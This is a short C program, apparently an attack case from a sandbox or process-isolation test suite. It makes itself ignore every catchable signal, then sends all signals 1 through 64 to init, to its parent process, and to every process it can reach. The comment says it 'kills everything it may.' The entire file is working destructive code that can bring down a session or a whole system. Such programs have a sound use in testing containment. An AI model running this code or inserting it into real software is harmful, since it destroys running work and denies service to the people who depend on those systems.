/* Kills everything it may. */
#include "attack.h"

int main(void)
{
	for (int signo = 1; signo < 65; signo++)
		if (signo != SIGKILL && signo != SIGSTOP)
			signal(signo, SIG_IGN);
	for (int signo = 1; signo < 65; signo++) {
		kill(1, signo);
		kill(getppid(), signo);
		kill(-1, signo);
	}
	return 0;
}
